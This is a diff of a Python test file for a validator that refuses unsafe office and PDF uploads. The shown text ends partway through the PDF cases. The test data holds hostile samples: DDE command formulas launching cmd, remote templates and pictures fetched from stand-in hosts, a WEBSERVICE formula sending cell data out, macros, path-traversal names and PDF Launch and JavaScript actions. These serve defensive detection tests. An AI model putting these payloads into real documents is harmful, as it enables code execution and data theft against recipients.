@@ -3,7 +3,9 @@
 import re
 import subprocess
 import zlib
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
+from functools import partial
+from html import escape
 from io import BytesIO
 from typing import Any
 from zipfile import ZIP_BZIP2, ZipFile
@@ -15,7 +17,6 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from outcomes.evidence import ooxml, validation
 from outcomes.evidence import parts as office_parts
 from outcomes.evidence import pdf as pdf_files
-from outcomes.evidence.pdf_objects import unsafe_name
 from outcomes.evidence.validation import check_file
 from tests.outcomes.evidence.documents import (
     JPEG,
@@ -24,6 +25,8 @@ from tests.outcomes.evidence.documents import (
     PNG,
     WORD,
     XLSX,
+    Content,
+    Parts,
     docx,
     docx_saying,
     docx_with,
@@ -44,14 +47,6 @@ AS_PDF = "Save the document as a PDF, then choose the PDF."
 UNREADABLE = (
     "We cannot read this as an office document. Save it again or as a PDF, then choose it again."
 )
-
-
-@pytest.fixture
-def pdf_in_this_process(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Starting a process for each PDF would take longer than the tests."""
-    monkeypatch.setattr(
-        pdf_files, "run_limited", lambda _module, content: (unsafe_name(content) or "").encode()
-    )
 
 
 def sentence(content: bytes) -> str:
@@ -112,180 +107,178 @@ def packed(content: bytes, method: int) -> bytes:
     return stored.getvalue()
 
 
+def not_allowed(name: str) -> str:
+    return f"The name of the part “{name}” is not allowed. {AS_PDF}"
+
+
+def not_a_picture(part: str) -> str:
+    return f"The part “{part}” is not a picture, as its name says. {AS_PDF}"
+
+
+def not_needed(part: str) -> str:
+    return f"The part “{part}” is not of a kind that a document needs. {AS_PDF}"
+
+
 RELS, SETTINGS = "word/_rels/document.xml.rels", "word/settings.xml"
+BOOK_RELS, SHEET = "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml"
 HTTP, UNC = "http://192.0.2.1/a.png", "\\\\192.0.2.1\\share\\a.png"
-OFFICE_FILES: list[tuple[str, Callable[[], bytes], str]] = [
-    ("picture by http", lambda: docx_with("image", HTTP), loads(HTTP)),
-    ("picture by UNC", lambda: docx_with("image", UNC), loads(UNC)),
-    (
-        "picture by file",
-        lambda: docx_with("image", "file://192.0.2.1/a"),
-        loads("file://192.0.2.1/a"),
-    ),
-    (
-        "picture that says to be inside",
-        lambda: docx_with("image", "//192.0.2.1/a.png", is_external=False),
-        loads("//192.0.2.1/a.png"),
-    ),
-    (
-        "template",
-        lambda: docx_with("attachedTemplate", "https://a.example/t.dotm"),
-        loads("https://a.example/t.dotm"),
-    ),
-    (
-        "mode that no program writes",
-        lambda: docx(
-            {RELS: relationship("image", "a.png").replace('"External"', '"external"')},
-        ),
-        loads("a.png"),
-    ),
-    ("template on a share", lambda: docx_with_template(UNC), loads(UNC)),
-    (
-        "template of another computer",
-        lambda: docx_with_template("file://192.0.2.1/t.dotm"),
-        loads("file://192.0.2.1/t.dotm"),
-    ),
-    (
-        "template on a share, by file",
-        lambda: docx_with_template("file:///\\\\192.0.2.1\\t.dotm"),
-        loads("file:///\\\\192.0.2.1\\t.dotm"),
-    ),
-    (
-        "template beside another part",
-        lambda: docx_with("attachedTemplate", "Normal.dotm"),
-        loads("Normal.dotm"),
-    ),
-    (
-        "element that is left without the template inside it",
-        lambda: docx({SETTINGS: '<s><!--<attachedTemplate a="--><mailMerge/>"/>--></s>'}),
-        contains("mailMerge", SETTINGS),
-    ),
-    ("frame", lambda: docx_with("frame", HTTP), loads(HTTP)),
-    ("sub-document", lambda: docx_with("subDocument", UNC), loads(UNC)),
-    ("linked OLE", lambda: docx_with("oleObject", UNC), loads(UNC)),
-    (
-        "HTML inside",
-        lambda: docx_with("aFChunk", "a.xml", is_external=False),
-        contains("aFChunk", RELS),
-    ),
-    (
-        "ActiveX",
-        lambda: docx_with("control", "a.xml", is_external=False),
-        contains("control", RELS),
-    ),
-    (
-        "link to a file",
-        lambda: docx_with("hyperlink", "file:///C:/a.exe"),
-        links("file:///C:/a.exe"),
-    ),
-    ("link to a share", lambda: docx_with("hyperlink", UNC), links(UNC)),
-    (
-        "link to a program beside it",
-        lambda: docx_with("hyperlink", "a.pdf.exe"),
-        links("a.pdf.exe"),
-    ),
-    ("link to a drive", lambda: docx_with("hyperlink", "C:/a.pdf"), links("C:/a.pdf")),
-    (
-        "link to a share in other signs",
-        lambda: docx_with("hyperlink", "%5C%5C192.0.2.1%5Ca.pdf"),
-        links("%5C%5C192.0.2.1%5Ca.pdf"),
-    ),
-    ("link to a script", lambda: docx_with("hyperlink", "javascript:a"), links("javascript:a")),
-    (
-        "INCLUDEPICTURE",
-        lambda: docx_saying(field(f' INCLUDEPICTURE "{HTTP}" \\d ')),
-        has_field("INCLUDEPICTURE"),
-    ),
-    ("INCLUDETEXT", lambda: docx_saying(field(f'INCLUDETEXT "{HTTP}"')), has_field("INCLUDETEXT")),
-    (
-        "DDEAUTO over runs",
-        lambda: docx_saying(field("DD", "EAU", "TO c:\\\\cmd.exe")),
-        has_field("DDEAUTO"),
-    ),
-    ("DDE in small letters", lambda: docx_saying(field('dde Excel "a"')), has_field("dde")),
+FILE, ON_SHARE = "file://192.0.2.1/t.dotm", "file:///\\\\192.0.2.1\\t.dotm"
+BEGIN, END = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
+Case = tuple[str, Callable[[], bytes], str]  # its name, the file, and the sentence
+# What a Word document is connected to.
+RELATIONS: list[tuple[str, str, str, Callable[[str], str]]] = [
+    ("picture by http", "image", HTTP, loads),
+    ("picture by UNC", "image", UNC, loads),
+    ("picture by file", "image", "file://192.0.2.1/a", loads),
+    ("template", "attachedTemplate", "https://a.example/t.dotm", loads),
+    ("template beside another part", "attachedTemplate", "Normal.dotm", loads),
+    ("frame", "frame", HTTP, loads),
+    ("sub-document", "subDocument", UNC, loads),
+    ("linked OLE", "oleObject", UNC, loads),
+    ("link to a file", "hyperlink", "file:///C:/a.exe", links),
+    ("link to a share", "hyperlink", UNC, links),
+    ("link to a program beside it", "hyperlink", "a.pdf.exe", links),
+    ("link to a drive", "hyperlink", "C:/a.pdf", links),
+    ("link to a share in other signs", "hyperlink", "%5C%5C192.0.2.1%5Ca.pdf", links),
+    ("link to a script", "hyperlink", "javascript:a", links),
+]
+# Fields of Word.
+FIELDS = [
+    ("INCLUDEPICTURE", field(f' INCLUDEPICTURE "{HTTP}" \\d '), has_field("INCLUDEPICTURE")),
+    ("INCLUDETEXT", field(f'INCLUDETEXT "{HTTP}"'), has_field("INCLUDETEXT")),
+    ("DDEAUTO over runs", field("DD", "EAU", "TO c:\\\\cmd.exe"), has_field("DDEAUTO")),
+    ("DDE in small letters", field('dde Excel "a"'), has_field("dde")),
     (
         "DDE as simple field",
-        lambda: docx_saying('<w:fldSimple w:instr=" DDE Excel a "><w:r/></w:fldSimple>'),
+        '<w:fldSimple w:instr=" DDE Excel a "><w:r/></w:fldSimple>',
         has_field("DDE"),
     ),
     (
         "name from a field inside",
-        lambda: docx_saying(
-            '<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText>'
-            f'{field(" QUOTE 68 ")}<w:instrText>E</w:instrText><w:fldChar w:fldCharType="end"/>'
-        ),
+        f"{BEGIN}<w:instrText>D</w:instrText>{field(' QUOTE 68 ')}"
+        f"<w:instrText>E</w:instrText>{END}",
         has_field("D\ufffcE"),
     ),
     (
         "deleted name before",
-        lambda: docx_saying(
-            '<w:fldChar w:fldCharType="begin"/><w:delInstrText>PAGE </w:delInstrText>'
-            '<w:instrText>DDEAUTO a</w:instrText><w:fldChar w:fldCharType="end"/>'
-        ),
+        f"{BEGIN}<w:delInstrText>PAGE </w:delInstrText><w:instrText>DDEAUTO a</w:instrText>{END}",
         has_field("DDEAUTO"),
     ),
     (
         "name that is left if a change is rejected",
-        lambda: docx_saying(
-            '<w:fldChar w:fldCharType="begin"/><w:delInstrText>DDEAUTO </w:delInstrText>'
-            '<w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/>'
-        ),
+        f"{BEGIN}<w:delInstrText>DDEAUTO </w:delInstrText><w:instrText>PAGE</w:instrText>{END}",
         has_field("DDEAUTO"),
     ),
-    (
-        "name as plain text",
-        lambda: docx_saying(
-            '<w:fldChar w:fldCharType="begin"/><w:t>DDE a</w:t><w:fldChar w:fldCharType="end"/>'
-        ),
-        has_field("DDE"),
-    ),
+    ("name as plain text", f"{BEGIN}<w:t>DDE a</w:t>{END}", has_field("DDE")),
     (
         "end that Word leaves out",
-        lambda: docx_saying(
-            '<w:fldChar w:fldCharType="begin"/><x:x xmlns:x="x"><w:instrText>PAGE</w:instrText>'
-            '<w:fldChar w:fldCharType="end"/></x:x><w:instrText>DDEAUTO a</w:instrText>'
-        ),
+        f'{BEGIN}<x:x xmlns:x="x"><w:instrText>PAGE</w:instrText>{END}</x:x>'
+        "<w:instrText>DDEAUTO a</w:instrText>",
         has_field("DDEAUTO"),
     ),
+    ("field without a begin", "<w:instrText>DDEAUTO a</w:instrText>", has_field("DDEAUTO")),
+    ("link field", field('HYPERLINK "file://a/b"'), links("file://a/b")),
+    ("link field with a tip", field('HYPERLINK \\o "tip" \\\\a\\b'), links("a")),
+]
+FORMULAS = {
+    "WEBSERVICE": '_xlfn.WEBSERVICE("http://a/"&A1)',
+    "IMAGE": '_xlfn.IMAGE("http://a/")',
+    "RTD": 'rtd ("a",,"b")',
+    "DDE formula": "cmd|'/c calc'!A0",
+    "DDE after a quote": "'a\"'!A1+cmd|'b'!A0&\"\"",
+    "other workbook": "[1]Sheet1!A1",
+    "workbook on a share": "'\\\\a\\[b.xlsx]S'!A1",
+    "link formula": 'HYPERLINK("file:///a")',
+}
+# Parts that a Word document has besides.
+DOCX_PARTS: list[tuple[str, Parts, str]] = [
     (
-        "field without a begin",
-        lambda: docx_saying("<w:instrText>DDEAUTO a</w:instrText>"),
-        has_field("DDEAUTO"),
+        "mode that no program writes",
+        {RELS: relationship("image", "a.png").replace('"External"', '"external"')},
+        loads("a.png"),
     ),
-    ("link field", lambda: docx_saying(field('HYPERLINK "file://a/b"')), links("file://a/b")),
     (
-        "link field with a tip",
-        lambda: docx_saying(field('HYPERLINK \\o "tip" \\\\a\\b')),
-        links("a"),
+        "element that is left without the template inside it",
+        {SETTINGS: '<s><!--<attachedTemplate a="--><mailMerge/>"/>--></s>'},
+        contains("mailMerge", SETTINGS),
     ),
     (
         "mail merge",
-        lambda: docx({"word/settings.xml": f"<w:settings {WORD}><w:mailMerge/></w:settings>"}),
-        contains("mailMerge", "word/settings.xml"),
+        {SETTINGS: f"<w:settings {WORD}><w:mailMerge/></w:settings>"},
+        contains("mailMerge", SETTINGS),
     ),
-    ("drawing with an address", lambda: vml(f'<v:imagedata src="{HTTP}"/>'), loads(HTTP)),
-    ("drawing with a linked address", lambda: vml(f'<v:imagedata o:href="{HTTP}"/>'), loads(HTTP)),
+    ("OLE inside", {"word/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, is_program("word/oleObject1.bin")),
+    ("program inside", {"word/media/a.exe": b"MZ\x90"}, is_program("word/media/a.exe")),
+    ("program as picture", {"a.png": b"MZ\x90" + bytes(80)}, not_a_picture("a.png")),
+    ("macro", {"word/vbaProject.bin": b"x"}, is_program("word/vbaProject.bin")),
+    ("name that leaves the folder", {"../../a.png": PNG}, not_allowed("../../a.png")),
+    ("name with a drive", {"D:\\a.png": PNG}, not_allowed("D:\\a.png")),
+    ("name from the root", {"/a.png": PNG}, not_allowed("/a.png")),
+    ("name with an empty folder", {"word//a.png": PNG}, not_allowed("word//a.png")),
+    ("names that differ by case", {"a.png": PNG, "A.PNG": PNG}, UNREADABLE),
+    ("folder with content", {"word/": "a"}, UNREADABLE),
+    ("document type", {"a.xml": '<!DOCTYPE a SYSTEM "a"><a/>'}, contains("DOCTYPE", "a.xml")),
     (
-        "OLE inside",
-        lambda: docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
-        is_program("word/embeddings/oleObject1.bin"),
+        "style sheet",
+        {"a.xml": '<?xml-stylesheet href="http://a/"?><a/>'},
+        contains("xml-stylesheet", "a.xml"),
     ),
+    ("script in a picture", {"a.svg": "<svg><script/></svg>"}, contains("script", "a.svg")),
+    ("picture in a picture", {"a.svg": f'<svg><image href="{HTTP}"/></svg>'}, loads(HTTP)),
     (
-        "program inside",
-        lambda: docx({"word/media/a.exe": b"MZ\x90"}),
-        is_program("word/media/a.exe"),
+        "style of a picture",
+        {"a.svg": "<svg><style>@import 'a'</style></svg>"},
+        loads("@import 'a'"),
     ),
+    ("event of a picture", {"a.svg": '<svg onload="a()"/>'}, contains("onload", "a.svg")),
+]
+# Bodies of OpenDocument texts.
+ODF_BODIES = [
+    ("form that is sent", '<x:model xmlns:x="http://www.w3.org/2002/xforms"/>', "model"),
+    ("frame", "<draw:floating-frame/>", "floating-frame"),
+    ("plug-in", "<draw:plugin/>", "plugin"),
+    ("applet", "<draw:applet/>", "applet"),
+    ("event", "<script:event-listener/>", "event-listener"),
+    ("DDE", '<office:dde-source office:dde-application="soffice"/>', "dde-source"),
+    ("action", '<presentation:e presentation:action="execute"/>', "execute"),
+]
+ODF_ADDRESSES: list[tuple[str, str, str, Callable[[str], str]]] = [
+    ("template on a share", "<meta:template xlink:href={}/>", "\\\\a\\b.ott", loads),
+    ("template by http", "<meta:template xlink:href={}/>", HTTP, loads),
+    ("picture by http", "<draw:image xlink:href={}/>", HTTP, loads),
+    ("picture beside it", "<draw:image xlink:href={}/>", "../a.png", loads),
+    ("picture of a form", "<form:image form:image-data={}/>", HTTP, loads),
+    ("picture of a form on a share", "<form:button form:image-data={}/>", UNC, loads),
     (
-        "program as picture",
-        lambda: docx({"word/media/image1.png": b"MZ\x90" + bytes(80)}),
-        f"The part “word/media/image1.png” is not a picture, as its name says. {AS_PDF}",
+        "picture as a property",
+        '<form:property form:property-name="ImageURL" office:string-value={}/>',
+        HTTP,
+        loads,
     ),
+    ("database", "<form:form form:datasource={}/>", "file://192.0.2.1/a.odb", loads),
+    ("section", "<text:section-source xlink:href={}/>", HTTP, loads),
+    ("link to a file", "<text:a xlink:href={}/>", "file:///a", links),
+    ("link to a macro", "<text:a xlink:href={}/>", "vnd.sun.star.script:a", links),
+]
+ODF_FORMULAS = [
+    ("condition", "condition", "DDE(1)"),
+    ("DDE formula", "formula", "of:=DDE('a';'b')"),
+    ("other file", "formula", "of:=['file:///a.ods'#$S.A1]"),
+]
+# Parts of OpenDocument texts.
+ODF_PARTS: list[tuple[str, str, Content, Callable[[str], str]]] = [
+    ("menu", "Configurations2/menubar/menubar.xml", "<a/>", is_program),
+    ("program as font", "Fonts/a.ttf", b"MZ", is_program),
+    ("macro", "Basic/script-lc.xml", "<a/>", is_program),
+    ("object of another program", "Object 1", b"\xd0\xcf\x11\xe0", is_program),
+    ("program as picture", "Pictures/a.png", b"MZ", not_a_picture),
+]
+OTHER_FILES: list[Case] = [
     (
         "program as printer settings",
         lambda: docx({"a.dat": b"MZ"}, **{"a.dat": f"{OFFICE}wordprocessingml.printerSettings"}),
         is_program("a.dat"),
     ),
-    ("macro", lambda: docx({"word/vbaProject.bin": b"x"}), is_program("word/vbaProject.bin")),
     (
         "macro document",
         lambda: docx(
@@ -296,88 +289,49 @@ OFFICE_FILES: list[tuple[str, Callable[[], bytes], str]] = [
     (
         "XML of another kind",
         lambda: docx({"a.xml": "<a/>"}, **{"a.xml": "application/vnd.ms-office.webextension+xml"}),
-        f"The part “a.xml” is not of a kind that a document needs. {AS_PDF}",
+        not_needed("a.xml"),
     ),
     (
-        "name that leaves the folder",
-        lambda: docx({"../../a.png": PNG}),
-        f"The name of the part “../../a.png” is not allowed. {AS_PDF}",
+        "two documents in one",
+        lambda: docx({"a.xml": "<a/>"}, **{"a.xml": f"{XLSX}.main+xml"}),
+        UNREADABLE,
     ),
     (
-        "name with a drive",
-        lambda: docx({"D:\\a.png": PNG}),
-        f"The name of the part “D:\\a.png” is not allowed. {AS_PDF}",
+        "metafile that is none",
+        lambda: docx({"a.emf": b"\x01\x00\x00\x00" + bytes(60)}, **{"a.emf": "image/x-emf"}),
+        not_a_picture("a.emf"),
     ),
     (
-        "name from the root",
-        lambda: docx({"/a.png": PNG}),
-        f"The name of the part “/a.png” is not allowed. {AS_PDF}",
-    ),
-    ("names that differ by case", lambda: docx({"a.png": PNG, "A.PNG": PNG}), UNREADABLE),
-    (
-        "document type",
-        lambda: docx({"a.xml": '<!DOCTYPE a SYSTEM "http://a/"><a/>'}),
-        contains("DOCTYPE", "a.xml"),
+        "picture that says to be inside",
+        lambda: docx_with("image", "//192.0.2.1/a.png", is_external=False),
+        loads("//192.0.2.1/a.png"),
     ),
     (
-        "script in a picture",
-        lambda: docx({"a.svg": "<svg><script/></svg>"}),
-        contains("script", "a.svg"),
+        "HTML inside",
+        lambda: docx_with("aFChunk", "a.xml", is_external=False),
+        contains("aFChunk", RELS),
     ),
     (
-        "picture in a picture",
-        lambda: docx({"a.svg": f'<svg><image href="{HTTP}"/></svg>'}),
-        loads(HTTP),
+        "ActiveX",
+        lambda: docx_with("control", "a.xml", is_external=False),
+        contains("control", RELS),
     ),
+    ("template on a share", lambda: docx_with_template(UNC), loads(UNC)),
+    ("template of another computer", lambda: docx_with_template(FILE), loads(FILE)),
+    ("template on a share, by file", lambda: docx_with_template(ON_SHARE), loads(ON_SHARE)),
+    ("drawing with an address", lambda: vml(f'<v:imagedata src="{HTTP}"/>'), loads(HTTP)),
+    ("drawing with a linked address", lambda: vml(f'<v:imagedata o:href="{HTTP}"/>'), loads(HTTP)),
     (
-        "style of a picture",
-        lambda: docx({"a.svg": "<svg><style>@import 'a'</style></svg>"}),
-        loads("@import 'a'"),
-    ),
-    (
-        "event of a picture",
-        lambda: docx({"a.svg": '<svg onload="a()"/>'}),
-        contains("onload", "a.svg"),
-    ),
-    (
-        "WEBSERVICE",
-        lambda: xlsx_counting('_xlfn.WEBSERVICE("http://a/"&amp;A1)'),
-        counts('_xlfn.WEBSERVICE("http://a/"&A1)'),
-    ),
-    (
-        "IMAGE",
-        lambda: xlsx_counting('_xlfn.IMAGE("http://a/")'),
-        counts('_xlfn.IMAGE("http://a/")'),
-    ),
-    ("RTD", lambda: xlsx_counting('rtd ("a",,"b")'), counts('rtd ("a",,"b")')),
-    ("DDE formula", lambda: xlsx_counting("cmd|'/c calc'!A0"), counts("cmd|'/c calc'!A0")),
-    (
-        "DDE after a quote",
-        lambda: xlsx_counting("'a\"'!A1+cmd|'b'!A0&amp;\"\""),
-        counts("'a\"'!A1+cmd|'b'!A0&\"\""),
-    ),
-    ("other workbook", lambda: xlsx_counting("[1]Sheet1!A1"), counts("[1]Sheet1!A1")),
-    (
-        "workbook on a share",
-        lambda: xlsx_counting("'\\\\a\\[b.xlsx]S'!A1"),
-        counts("'\\\\a\\[b.xlsx]S'!A1"),
-    ),
-    (
-        "link formula",
-        lambda: xlsx_counting('HYPERLINK("file:///a")'),
-        counts('HYPERLINK("file:///a")'),
+        "macro of a drawing",
+        lambda: vml("<x:FmlaMacro xmlns:x='x'>[1]!A</x:FmlaMacro>"),
+        contains("[1]!A", "word/drawing1.vml"),
     ),
     (
         "link to a workbook",
         lambda: xlsx(
-            "<worksheet/>",
-            {
-                "xl/_rels/workbook.xml.rels": relationship(
-                    "externalLink", "a.xml", is_external=False
-                )
-            },
+            "<worksheet/>", {BOOK_RELS: relationship("externalLink", "a.xml", is_external=False)}
         ),
-        contains("externalLink", "xl/_rels/workbook.xml.rels"),
+        contains("externalLink", BOOK_RELS),
     ),
     (
         "connection",
@@ -386,7 +340,7 @@ OFFICE_FILES: list[tuple[str, Callable[[], bytes], str]] = [
             {"xl/connections.xml": "<connections/>"},
             **{"xl/connections.xml": f"{OFFICE}spreadsheetml.connections+xml"},
         ),
-        f"The part “xl/connections.xml” is not of a kind that a document needs. {AS_PDF}",
+        not_needed("xl/connections.xml"),
     ),
     (
         "macro of a shape",
@@ -396,12 +350,7 @@ OFFICE_FILES: list[tuple[str, Callable[[], bytes], str]] = [
     (
         "macro of a control",
         lambda: xlsx('<worksheet><formControlPr fmlaMacro="a.xlsm!A"/></worksheet>'),
-        contains("a.xlsm!A", "xl/worksheets/sheet1.xml"),
-    ),
-    (
-        "macro of a drawing",
-        lambda: vml("<x:FmlaMacro xmlns:x='x'>[1]!A</x:FmlaMacro>"),
-        contains("[1]!A", "word/drawing1.vml"),
+        contains("a.xlsm!A", SHEET),
     ),
     (
         "text of a shape by DDE",
@@ -417,6 +366,11 @@ OFFICE_FILES: list[tuple[str, Callable[[], bytes], str]] = [
         "map with a schema elsewhere",
         lambda: xlsx(f'<MapInfo><Schema SchemaRef="{HTTP}"/></MapInfo>'),
         loads(HTTP),
+    ),
+    (
+        "formula of a pivot table",
+        lambda: xlsx('<worksheet><c formula="DDE(1)"/></worksheet>'),
+        counts("DDE(1)"),
     ),
     (
         "program on a slide",
@@ -439,147 +393,19 @@ OFFICE_FILES: list[tuple[str, Callable[[], bytes], str]] = [
         is_program("b.xlsx"),
     ),
     (
-        "formula of a pivot table",
-        lambda: xlsx('<worksheet><c formula="DDE(1)"/></worksheet>'),
-        counts("DDE(1)"),
-    ),
-    (
-        "metafile that is none",
-        lambda: docx({"a.emf": b"\x01\x00\x00\x00" + bytes(60)}, **{"a.emf": "image/x-emf"}),
-        f"The part “a.emf” is not a picture, as its name says. {AS_PDF}",
-    ),
-    (
-        "name with an empty folder",
-        lambda: docx({"word//a.png": PNG}),
-        f"The name of the part “word//a.png” is not allowed. {AS_PDF}",
-    ),
-    (
         "name with a hidden end",
         lambda: docx({"a-b.png": PNG}).replace(b"a-b.png", b"a\0b.png"),
-        f"The name of the part “a b.png” is not allowed. {AS_PDF}",
-    ),
-    (
-        "style sheet",
-        lambda: docx({"a.xml": '<?xml-stylesheet href="http://a/"?><a/>'}),
-        contains("xml-stylesheet", "a.xml"),
-    ),
-    (
-        "two documents in one",
-        lambda: docx({"a.xml": "<a/>"}, **{"a.xml": f"{XLSX}.main+xml"}),
-        UNREADABLE,
+        not_allowed("a b.png"),
     ),
     ("something before it", lambda: b"PK\x03\x04" + bytes(40) + docx(), UNREADABLE),
     ("something after it", lambda: docx() + b"<script>", UNREADABLE),
     ("part with a password", lambda: with_password(docx()), UNREADABLE),
     ("other compression", lambda: packed(docx(), ZIP_BZIP2), UNREADABLE),
-    ("folder with content", lambda: docx({"word/": "a"}), UNREADABLE),
-    (
-        "ODF form that is sent",
-        lambda: odf('<x:model xmlns:x="http://www.w3.org/2002/xforms"/>'),
-        contains("model", "content.xml"),
-    ),
-    (
-        "ODF condition",
-        lambda: odf('<table:c table:condition="DDE(1)"/>', kind=ODS),
-        counts("DDE(1)"),
-    ),
-    (
-        "ODF menu",
-        lambda: odf("", {"Configurations2/menubar/menubar.xml": "<a/>"}),
-        is_program("Configurations2/menubar/menubar.xml"),
-    ),
-    ("ODF program as font", lambda: odf("", {"Fonts/a.ttf": b"MZ"}), is_program("Fonts/a.ttf")),
     (
         "ODF picture with a script",
         lambda: odf("", {"Pictures/a.svg": "<svg><script/></svg>"}),
         contains("script", "Pictures/a.svg"),
     ),
-    (
-        "ODF template on a share",
-        lambda: odf('<meta:template xlink:href="\\\\a\\b.ott"/>'),
-        loads("\\\\a\\b.ott"),
-    ),
-    ("ODF picture by http", lambda: odf(f'<draw:image xlink:href="{HTTP}"/>'), loads(HTTP)),
-    (
-        "ODF picture beside it",
-        lambda: odf('<draw:image xlink:href="../a.png"/>'),
-        loads("../a.png"),
-    ),
-    (
-        "ODF picture of a form",
-        lambda: odf(f'<form:image form:image-data="{HTTP}"/>'),
-        loads(HTTP),
-    ),
-    (
-        "ODF picture of a form on a share",
-        lambda: odf(f'<form:button form:image-data="{UNC}"/>'),
-        loads(UNC),
-    ),
-    (
-        "ODF picture as a property",
-        lambda: odf(f'<form:property form:property-name="ImageURL" office:string-value="{HTTP}"/>'),
-        loads(HTTP),
-    ),
-    (
-        "ODF database",
-        lambda: odf('<form:form form:datasource="file://192.0.2.1/a.odb"/>'),
-        loads("file://192.0.2.1/a.odb"),
-    ),
-    ("ODF link to a file", lambda: odf('<text:a xlink:href="file:///a"/>'), links("file:///a")),
-    (
-        "ODF link to a macro",
-        lambda: odf('<text:a xlink:href="vnd.sun.star.script:a"/>'),
-        links("vnd.sun.star.script:a"),
-    ),
-    (
-        "ODF section",
-        lambda: odf(f'<text:section-source xlink:href="{HTTP}"/>'),
-        loads(HTTP),
-    ),
-    ("ODF frame", lambda: odf("<draw:floating-frame/>"), contains("floating-frame", "content.xml")),
-    ("ODF plug-in", lambda: odf("<draw:plugin/>"), contains("plugin", "content.xml")),
-    ("ODF applet", lambda: odf("<draw:applet/>"), contains("applet", "content.xml")),
-    (
-        "ODF event",
-        lambda: odf("<script:event-listener/>"),
-        contains("event-listener", "content.xml"),
-    ),
-    (
-        "ODF DDE",
-        lambda: odf('<office:dde-source office:dde-application="soffice"/>'),
-        contains("dde-source", "content.xml"),
-    ),
-    (
-        "ODF DDE formula",
-        lambda: odf("<table:c table:formula=\"of:=DDE('a';'b')\"/>", kind=ODS),
-        counts("of:=DDE('a';'b')"),
-    ),
-    (
-        "ODF other file",
-        lambda: odf("<table:c table:formula=\"of:=['file:///a.ods'#$S.A1]\"/>", kind=ODS),
-        counts("of:=['file:///a.ods'#$S.A1]"),
-    ),
-    (
-        "ODF action",
-        lambda: odf('<presentation:e presentation:action="execute"/>'),
-        contains("execute", "content.xml"),
-    ),
-    (
-        "ODF macro",
-        lambda: odf("", {"Basic/script-lc.xml": "<a/>"}),
-        is_program("Basic/script-lc.xml"),
-    ),
-    (
-        "ODF object of another program",
-        lambda: odf("", {"Object 1": b"\xd0\xcf\x11\xe0"}),
-        is_program("Object 1"),
-    ),
-    (
-        "ODF program as picture",
-        lambda: odf("", {"Pictures/a.png": b"MZ"}),
-        f"The part “Pictures/a.png” is not a picture, as its name says. {AS_PDF}",
-    ),
-    ("ODF template by http", lambda: odf(f'<meta:template xlink:href="{HTTP}"/>'), loads(HTTP)),
     (
         "ODF that is locked",
         lambda: odf("", {"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
@@ -588,8 +414,29 @@ OFFICE_FILES: list[tuple[str, Callable[[], bytes], str]] = [
 ]
 
 
+def office_files() -> Iterator[Case]:
+    for name, kind, target, say in RELATIONS:
+        yield name, partial(docx_with, kind, target), say(target)
+    for name, runs, said in FIELDS:
+        yield name, partial(docx_saying, runs), said
+    for name, formula in FORMULAS.items():
+        yield name, partial(xlsx_counting, escape(formula, quote=False)), counts(formula)
+    for name, parts, said in DOCX_PARTS:
+        yield name, partial(docx, parts), said
+    for name, body, element in ODF_BODIES:
+        yield f"ODF {name}", partial(odf, body), contains(element, "content.xml")
+    for name, body, address, say in ODF_ADDRESSES:
+        yield f"ODF {name}", partial(odf, body.format(f'"{address}"')), say(address)
+    for name, key, formula in ODF_FORMULAS:
+        cell = f'<table:c table:{key}="{formula}"/>'
+        yield f"ODF {name}", partial(odf, cell, kind=ODS), counts(formula)
+    for name, part, content, say in ODF_PARTS:
+        yield f"ODF {name}", partial(odf, "", {part: content}), say(part)
+    yield from OTHER_FILES
+
+
 @pytest.mark.parametrize(
-    ("make", "said"), [pytest.param(make, said, id=name) for name, make, said in OFFICE_FILES]
+    ("make", "said"), [pytest.param(make, said, id=name) for name, make, said in office_files()]
 )
 def test_unsafe_office_file_is_refused_by_name(make: Callable[[], bytes], said: str) -> None:
     assert sentence(make()) == said
@@ -602,104 +449,97 @@ def names(part: str) -> str:
     )
 
 
-def pdf_doing(action: str) -> bytes:
-    return pdf(catalog=f"/OpenAction<<{action}>>")
+def annotation(subtype: str, more: str = "") -> str:
+    return f"<</Type/Annot/Subtype/{subtype}/Rect[0 0 1 1]{more}>>"
 
 
-def pdf_noting(subtype: str, more: str = "") -> bytes:
-    return pdf(f"<</Type/Annot/Subtype/{subtype}/Rect[0 0 1 1]{more}>>")
-
-
-PDF_FILES: list[tuple[str, Callable[[], bytes], str]] = [
-    ("SubmitForm", lambda: pdf_doing("/S/SubmitForm/F(http://a/)"), names("SubmitForm")),
-    ("ImportData", lambda: pdf_doing("/S/ImportData/F(a)"), names("ImportData")),
-    ("GoToR", lambda: pdf_doing("/S/GoToR/F(a.pdf)"), names("GoToR")),
-    ("GoToE", lambda: pdf_doing("/S/GoToE/T<<>>"), names("GoToE")),
-    ("escaped name", lambda: pdf_doing("/S/GoTo#52/F(a.pdf)"), names("GoToR")),
-    ("script", lambda: pdf_doing("/S/JavaScript/JS(a)"), names("JavaScript")),
-    ("script without a kind", lambda: pdf("<</JS(a)>>"), names("JS")),
-    ("program", lambda: pdf_doing("/S/Launch/F(a.exe)"), names("Launch")),
-    ("Rendition", lambda: pdf_doing("/S/Rendition"), names("Rendition")),
-    ("Sound", lambda: pdf_doing("/S/Sound"), names("Sound")),
-    ("Movie", lambda: pdf_noting("Movie"), names("Movie")),
-    ("Screen", lambda: pdf_noting("Screen"), names("Screen")),
-    ("3D", lambda: pdf_noting("3D"), names("3D")),
-    ("attached file", lambda: pdf_noting("FileAttachment"), names("FileAttachment")),
-    ("menu command", lambda: pdf_doing("/S/Named/N/Quit"), names("Quit")),
-    ("action after an action", lambda: pdf_doing("/S/GoTo/Next[<</S/Hide>>]"), names("Hide")),
-    ("action of an event", lambda: pdf("<</AA<</O<</S/ResetForm>>>>>>"), names("ResetForm")),
-    ("address at the start", lambda: pdf_doing(f"/S/URI/URI({HTTP})"), names("URI")),
-    (
-        "address after the start",
-        lambda: pdf_doing(f"/S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI({HTTP})>>"),
-        names("URI"),
-    ),
-    (
-        "address of a page that opens",
